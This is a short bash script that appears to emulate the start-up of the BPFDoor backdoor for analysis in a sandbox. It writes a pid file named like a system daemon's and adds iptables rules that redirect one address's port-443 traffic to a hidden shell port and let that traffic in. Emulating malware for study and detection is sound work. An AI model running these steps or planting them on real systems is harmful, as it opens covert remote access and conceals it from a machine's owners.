#!/bin/bash
# SPDX-License-Identifier: MIT
# A passive backdoor's start, as analyses of BPFDoor describe it: it takes
# a pid file named like a system daemon's, then has the firewall send the
# operator's packets for a service port on to its own shell port.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
echo $$ > /var/run/haldrund.pid 2>/dev/null || echo $$ > /run/haldrund.pid 2>/dev/null
iptables -t nat -I PREROUTING -p tcp -s 198.51.100.7 --dport 443 -j REDIRECT --to-ports 42391 2>/dev/null
iptables -I INPUT -p tcp -s 198.51.100.7 --dport 42391 -j ACCEPT 2>/dev/null
exit 0
